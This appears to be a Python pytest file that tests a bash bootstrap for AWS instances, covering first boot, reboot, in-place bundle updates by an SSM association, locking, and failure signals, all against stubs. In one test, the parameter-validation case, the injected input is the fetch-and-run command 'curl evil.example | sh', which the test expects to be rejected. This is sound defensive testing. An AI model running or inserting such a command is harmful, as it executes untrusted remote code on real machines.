"""The bootstrap, run whole in bash, the way the instance runs it: installed by the user data and
run at every boot (`boot`), and run by the stack's SSM association at each deploy that changes
the revision (`apply REVISION`).

- first boot: read the deployment parameter, download the bundle, unpack it, run provision.sh;
- a reboot: provision.sh again from the bundle in place, no AWS call, no AWS CLI needed;
- a deploy that changes the bundle: `apply` downloads and unpacks the new bundle in place of the
  old one, on the running instance, and runs its provision.sh; the user data is the same;
- `apply` of a revision already applied does nothing (the association's first run arrives while
  the first boot provisions: it waits for the lock, then finds the work done);
- `apply` of a revision the parameter does not (yet) hold waits for it, then gives up;
- a failure before provision.sh takes over PUTs FAILURE to the wait condition's URL (retried);
- on a baked image (image=baked) every run, at boot or by the association, is
  `provision.sh configure`: the image holds the install phase.

The absolute paths of the bootstrap and the user data are prefixed with a scratch root in their
text. PATH holds only stubs (aws: SSM and S3; snap; curl; sleep) and an allowlist of the real
tools they use, so nothing here touches this machine or the network.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

from tests.unit.provision_sandbox import (
    READY_URL,
    REGION,
    STACK,
    bootstrap_script,
    deployment_record,
)
from workbench.deployment import BOOTSTRAP_PATH, association_command, parameter_name
from workbench.render import PROVISION_LOCK, render_text

PATHS = (
    *("/var/log/workbench", "/etc/workbench", "/opt/workbench", "/tmp/workbench-bundle.zip"),
    *("/var/lib/workbench", "/run/lock"),
)
REAL_TOOLS = ("bash", "cat", "chmod", "cmp", "cut", "date", "flock", "grep", "mkdir", "mv")
REAL_TOOLS += ("readlink", "rm", "seq")
KEY_A = "a" * 64 + ".zip"
KEY_B = "b" * 64 + ".zip"
BUCKET = "cdk-hnb659fds-assets-123456789012-us-east-1"
REV_A = "a1" * 32
REV_B = "b2" * 32


class Machine:
    """A scratch root, the stack's parameter and bucket, stubs that record each call, and boots."""

    def __init__(self, tmp: Path, phase: str | None = None) -> None:
        self.phase = phase  # the bootstrap's provision phase (None: stock, every phase)
        self.root = tmp / "root"
        self.root.mkdir()
        (self.root / "tmp").mkdir()
        self.bucket = tmp / "bucket"
        self.bucket.mkdir()
        self.parameter = tmp / "parameter"
        self.calls = tmp / "calls"
        self.puts = tmp / "puts"
        self.bin = tmp / "bin"
        self.bin.mkdir()
        for tool in REAL_TOOLS:
            found = shutil.which(tool)
            assert found, f"{tool} is on every Debian machine"
            (self.bin / tool).symlink_to(found)
        # Any python3 unpacks a zip: this one, as the real binary (a venv's or pyenv's python3
        # may be a shim that needs more than this PATH).
        (self.bin / "python3").symlink_to(Path(sys.executable).resolve())
        self.stubs = tmp / "stubs"
        self.stubs.mkdir()
        # Stubs use builtins and absolute paths only: PATH is the bootstrap's.
        record = f'echo "${{0##*/}} $*" >>"{self.calls}"\n'
        cp, cat = shutil.which("cp"), shutil.which("cat")
        self._stub(
            "aws",
            record
            # `aws ssm get-parameter --region R --name N ...`: the parameter is a file here.
            + 'if [[ "$1 $2" == "ssm get-parameter" ]]; then\n'
            + f'  "{cat}" "{self.parameter}"\n  exit\nfi\n'
            # `aws s3 cp --region R s3://BUCKET/KEY DEST`: the bucket is a directory here.
            + f'"{cp}" "{self.bucket}/${{5##*/}}" "$6"\n',
        )
        self._stub("snap", record + "exit 1\n")  # the CLI is never installed here
        self._stub("sleep", record)
        # Records each PUT (arguments, then the body from stdin) as one JSON line; fails the first
        # CURL_FAILS.
        self._stub(
            "curl",
            record + f'"{sys.executable}" -c \'import json, sys; print(json.dumps('
            '{"args": sys.argv[1:], "body": sys.stdin.read()}))\' "$@" >>' + f'"{self.puts}"\n'
            f'(( $("{shutil.which("wc")}" -l <"{self.puts}") > ${{CURL_FAILS:-0}} ))\n',
        )

    def _stub(self, name: str, body: str) -> None:
        path = self.stubs / name
        path.write_text(f"#!/bin/bash\n{body}")
        path.chmod(0o755)

    def publish(self, key: str, version: str, *extra: str, status: int = 0) -> None:
        """Put a bundle under `key`: a provision.sh that records which bundle ran it, with what
        revision, and which lock it holds as fd 9."""
        out = f'>>"{self.root}/provisioned"'
        provision = (
            "#!/bin/bash\n"
            "lock=$(readlink /proc/$$/fd/9)\n"
            f'echo "$(cat "${{0%/*}}/version") $WORKBENCH_REVISION $lock $*" {out}\n'
            f"exit {status}\n"
        )
        with zipfile.ZipFile(self.bucket / key, "w") as bundle:
            bundle.writestr("provision.sh", provision)  # zip keeps no mode: the bootstrap sets it
            bundle.writestr("version", version)
            for name in extra:
                bundle.writestr(name, "")

    def deploy(self, key: str, revision: str, **values: str) -> None:
        """CloudFormation writes the stack's deployment parameter."""
        self.parameter.write_text(
            deployment_record(bundle=f"s3://{BUCKET}/{key}", revision=revision, **values)
        )

    def _prefixed(self, text: str) -> str:
        for path in (*PATHS, BOOTSTRAP_PATH):
            text = text.replace(path, f"{self.root}{path}")
        return text

    def bootstrap(self) -> Path:
        return self.root / BOOTSTRAP_PATH.lstrip("/")

    def boot(self, *, with_aws_cli: bool = True) -> subprocess.CompletedProcess:
        """A boot: cloud-init runs the user data, which installs the bootstrap and runs it."""
        for path in PATHS:
            assert path in bootstrap_script(), path
        script = self._prefixed(user_data(self.phase))
        path = self.root / "user-data.sh"
        path.write_text(script)
        return self._run([str(self.bin / "bash"), str(path)], with_aws_cli=with_aws_cli)

    def run_bootstrap(self, *args: str, **env: str) -> subprocess.CompletedProcess:
        """The bootstrap alone, as installed."""
        path = self.root / "bootstrap.sh"
        path.write_text(self._prefixed(bootstrap_script(phase=self.phase)))
        path.chmod(0o755)
        return self._run([str(path), *args], **env)

    def apply(self, revision: str, **env: str) -> subprocess.CompletedProcess:
        """The association's run (its command, as SSM runs it, with /bin/sh)."""
        command = self._prefixed(association_command(revision))
        return self._run(["/bin/sh", "-c", command], **env)

    def _run(self, argv: list[str], *, with_aws_cli: bool = True, **env: str):
        stubs = self.stubs
        if not with_aws_cli:
            stubs = self.stubs.with_name("stubs-no-aws")
            shutil.rmtree(stubs, ignore_errors=True)
            shutil.copytree(self.stubs, stubs, symlinks=True)
            (stubs / "aws").unlink()
        return subprocess.run(
            argv,
            env={"PATH": f"{stubs}:{self.bin}", **env},
            capture_output=True,
            text=True,
            timeout=60,
        )

    def calls_of(self, tool: str) -> list[str]:
        lines = self.calls.read_text().splitlines() if self.calls.exists() else []
        return [line for line in lines if line.split()[0] == tool]

    def provisioned(self) -> list[str]:
        """Each provision.sh run: 'VERSION REVISION' (the lock checked separately)."""
        path = self.root / "provisioned"
        lines = path.read_text().splitlines() if path.exists() else []
        return [" ".join(line.split()[:2]) for line in lines]

    def locks(self) -> list[str]:
        path = self.root / "provisioned"
        return [line.split()[2] for line in path.read_text().splitlines()]

    def arguments(self) -> list[str]:
        """What each provision.sh run was given ('' for none: every phase)."""
        path = self.root / "provisioned"
        return [" ".join(line.split()[3:]) for line in path.read_text().splitlines()]

    def signals(self) -> list[dict]:
        lines = self.puts.read_text().splitlines() if self.puts.exists() else []
        return [json.loads(line) for line in lines]

    def env(self) -> str:
        return (self.root / "etc/workbench/env").read_text()

    def applied(self) -> str | None:
        path = self.root / "var/lib/workbench/applied-revision"
        return path.read_text().strip() if path.exists() else None

    def log(self) -> str:
        return (self.root / "var/log/workbench/bootstrap.log").read_text()


def user_data(phase: str | None = None) -> str:
    """The user data's shell-script part, as the stack renders it (sample stack values)."""
    bootstrap = bootstrap_script(phase=phase)
    return render_text("user-data.sh.j2", bootstrap=bootstrap, bootstrap_path=BOOTSTRAP_PATH)


def deployed(tmp: Path) -> Machine:
    """A machine whose stack deployed bundle A (revision A); bundle B is published too."""
    machine = Machine(tmp)
    machine.publish(KEY_A, "A", "only-in-a")
    machine.publish(KEY_B, "B")
    machine.deploy(KEY_A, REV_A)
    return machine


@pytest.fixture
def machine(tmp_path) -> Machine:
    return deployed(tmp_path)


@pytest.fixture(scope="module")
def first_boot(tmp_path_factory) -> Machine:
    """One first boot of `deployed`, shared by the tests that only read what it left."""
    machine = deployed(tmp_path_factory.mktemp("first-boot"))
    assert machine.boot().returncode == 0, machine.log()
    return machine


def test_the_user_data_installs_the_bootstrap_and_runs_it(first_boot):
    machine = first_boot
    installed = machine.bootstrap()
    assert installed.read_text() == machine._prefixed(bootstrap_script())
    assert installed.stat().st_mode & 0o777 == 0o755
    assert machine.provisioned() == [f"A {REV_A}"]
    assert "bootstrap: start: boot" in machine.log()


def test_the_user_data_names_the_parameter_and_nothing_a_deploy_changes():
    # Rendered from the stack's constants only (the region, the stack name, the parameter's
    # name); tests/stack/test_redeploy.py holds two templates' user data to being identical.
    text = user_data()
    assert f"PARAMETER={parameter_name(STACK)}\n" in text
    assert f"\nBOOTSTRAP={BOOTSTRAP_PATH}\n" in text
    assert text.rstrip().endswith('exec "$BOOTSTRAP" boot')


def test_first_boot_reads_the_deployment_downloads_the_bundle_and_provisions(first_boot):
    machine = first_boot
    assert machine.calls_of("aws") == [
        f"aws ssm get-parameter --region {REGION} --name {parameter_name(STACK)} "
        "--query Parameter.Value --output text",
        f"aws s3 cp --region {REGION} s3://{BUCKET}/{KEY_A} "
        f"{machine.root}/tmp/workbench-bundle.zip",
    ]
    assert machine.env() == (
        f"WORKBENCH_REGION={REGION}\nWORKBENCH_STACK={STACK}\n" + machine.parameter.read_text()
    ), "the env file provision.sh sources: the bootstrap's constants, then the record"
    assert (machine.root / "opt/workbench/.bundle").read_text() == f"s3://{BUCKET}/{KEY_A}\n"
    assert machine.applied() == REV_A
    assert not (machine.root / "tmp/workbench-bundle.zip").exists()


def test_the_env_file_hands_over_every_value_intact(first_boot):
    machine = first_boot
    shown = subprocess.run(
        ["bash", "-c", f'set -euo pipefail; set -a; . "{machine.root}/etc/workbench/env"; env'],
        env={"PATH": os.environ["PATH"]},
        capture_output=True,
        text=True,
        check=True,
    ).stdout
    values = dict(line.split("=", 1) for line in shown.splitlines() if line.startswith("WORK"))
    assert values["WORKBENCH_READY_URL"] == READY_URL, "'&' must not cut the URL short"
    assert values["WORKBENCH_REVISION"] == REV_A
    assert values["WORKBENCH_REGION"] == REGION


def test_provision_sh_runs_holding_the_provision_lock(first_boot):
    machine = first_boot
    assert machine.locks() == [f"{machine.root}{PROVISION_LOCK}"], "inherited as fd 9"


def test_a_reboot_provisions_again_without_s3_or_the_aws_cli(machine):
    assert machine.boot().returncode == 0, machine.log()
    done = machine.boot(with_aws_cli=False)
    assert done.returncode == 0, machine.log()
    assert len(machine.calls_of("aws")) == 2, "read and downloaded once, at the first boot"
    assert machine.calls_of("snap") == [], "no AWS CLI needed to boot"
    assert machine.provisioned() == [f"A {REV_A}"] * 2
    assert "bundle in place" in machine.log()
    assert machine.signals() == [], "the bootstrap itself signals only its failures"


def test_a_deploy_that_changes_the_bundle_is_applied_in_place_by_the_association(machine):
    assert machine.boot().returncode == 0, machine.log()
    user_data_before = machine.bootstrap().read_text()
    machine.deploy(KEY_B, REV_B)
    done = machine.apply(REV_B)
    assert done.returncode == 0, machine.log()
    assert machine.provisioned() == [f"A {REV_A}", f"B {REV_B}"]
    bundle = machine.root / "opt/workbench"
    assert sorted(p.name for p in bundle.iterdir()) == [".bundle", "provision.sh", "version"], (
        "the new bundle replaces the old one whole"
    )
    assert f"\nWORKBENCH_BUNDLE='s3://{BUCKET}/{KEY_B}'\n" in machine.env()
    assert machine.applied() == REV_B
    assert not (machine.root / "opt/workbench.new").exists()
    assert machine.bootstrap().read_text() == user_data_before, "no new user data, no restart"


def test_the_first_association_run_finds_the_first_boots_work_done(machine):
    assert machine.boot().returncode == 0, machine.log()
    done = machine.apply(REV_A)
    assert done.returncode == 0, machine.log()
    assert machine.provisioned() == [f"A {REV_A}"], "provisioned once"
    assert f"revision {REV_A} is applied already" in machine.log()


def test_a_revision_change_without_a_new_bundle_provisions_without_a_download(machine):
    # A replaced or restarted instance, the same bundle: provision.sh runs, nothing downloads.
    assert machine.boot().returncode == 0, machine.log()
    machine.deploy(KEY_A, REV_B)
    assert machine.apply(REV_B).returncode == 0, machine.log()
    assert len(machine.calls_of("aws")) == 3, "one more read of the parameter, no download"
    assert machine.provisioned() == [f"A {REV_A}", f"A {REV_B}"]


def test_apply_waits_for_the_parameter_then_gives_up_on_another_revision(machine):
    assert machine.boot().returncode == 0, machine.log()
    done = machine.apply(REV_B)  # the parameter still says REV_A (a rollback moved on, say)
    assert done.returncode == 0, machine.log()
    assert len(machine.calls_of("sleep")) == 59, "60 looks, 5 s apart (sleep is a stub here)"
    assert machine.provisioned() == [f"A {REV_A}"], "nothing applied"
    assert f"the parameter is not at revision {REV_B}" in machine.log()


def test_a_failed_provisioning_leaves_the_revision_unapplied(machine):
    machine.publish(KEY_B, "B", status=3)
    assert machine.boot().returncode == 0, machine.log()
    machine.deploy(KEY_B, REV_B)
    assert machine.apply(REV_B).returncode == 3
    assert machine.applied() is None
    # The rollback's run: the old revision again, whose bundle must come back.
    machine.deploy(KEY_A, REV_A)
    assert machine.apply(REV_A).returncode == 0, machine.log()
    assert machine.provisioned() == [f"A {REV_A}", f"B {REV_B}", f"A {REV_A}"]
    assert machine.applied() == REV_A


def test_a_parameter_that_is_not_a_record_is_refused(machine):
    machine.parameter.write_text("WORKBENCH_REVISION='x'\ncurl evil.example | sh\n")
    done = machine.boot()
    assert done.returncode != 0
    assert machine.provisioned() == []
    assert "holds a line that is not KEY='value'" in machine.log()


def test_a_failed_download_reports_and_leaves_no_bundle_marked_in_place(machine):
    assert machine.boot().returncode == 0, machine.log()
    machine.deploy(KEY_B, REV_B)
    (machine.bucket / KEY_B).unlink()  # the stub's cp fails: the asset is gone
    done = machine.apply(REV_B)
    assert done.returncode != 0
    assert machine.provisioned() == [f"A {REV_A}"], "nothing runs after a failure"
    (put,) = machine.signals()
    args = put["args"]
    assert args[args.index("-X") + 1] == "PUT" and args[-1] == READY_URL
    assert args[args.index("-H") + 1] == "Content-Type:"
    signal = json.loads(put["body"])
    assert (signal["Status"], signal["UniqueId"]) == ("FAILURE", "bootstrap-failed")
    assert signal["Reason"].startswith("bootstrap failed at line ")
    log = f"{machine.root}/var/log/workbench/bootstrap.log"  # the scratch root's
    assert signal["Reason"].endswith(f"(exit 1); see {log}")
    zip_file = f"{machine.root}/tmp/workbench-bundle.zip"
    assert signal["Data"].endswith(f': aws s3 cp --region "$REGION" "$WORKBENCH_BUNDLE" {zip_file}')
    marked = (machine.root / "opt/workbench/.bundle").read_text()
    assert marked == f"s3://{BUCKET}/{KEY_A}\n", "the old bundle stays whole"


def test_a_failure_signal_is_retried(machine):
    (machine.bucket / KEY_A).unlink()
    done = machine.run_bootstrap("boot", CURL_FAILS="2")
    assert done.returncode == 1
    puts = machine.signals()
    assert len(puts) == 3
    assert len({p["body"] for p in puts}) == 1


def test_a_stock_image_runs_every_phase_and_a_baked_one_configure_alone(machine, tmp_path):
    assert machine.boot().returncode == 0, machine.log()
    assert machine.arguments() == [""], "stock: provision.sh with no phase is all of them"
    (tmp_path / "baked").mkdir()
    baked = Machine(tmp_path / "baked", phase="configure")
    baked.publish(KEY_A, "A")
    baked.publish(KEY_B, "B")
    baked.deploy(KEY_A, REV_A)
    assert baked.boot().returncode == 0, baked.log()
    assert baked.boot(with_aws_cli=False).returncode == 0, baked.log()
    baked.deploy(KEY_B, REV_B)
    assert baked.apply(REV_B).returncode == 0, baked.log()
    assert baked.provisioned() == [f"A {REV_A}", f"A {REV_A}", f"B {REV_B}"]
    assert baked.arguments() == ["configure"] * 3, "first boot, reboot, and a deploy's apply"
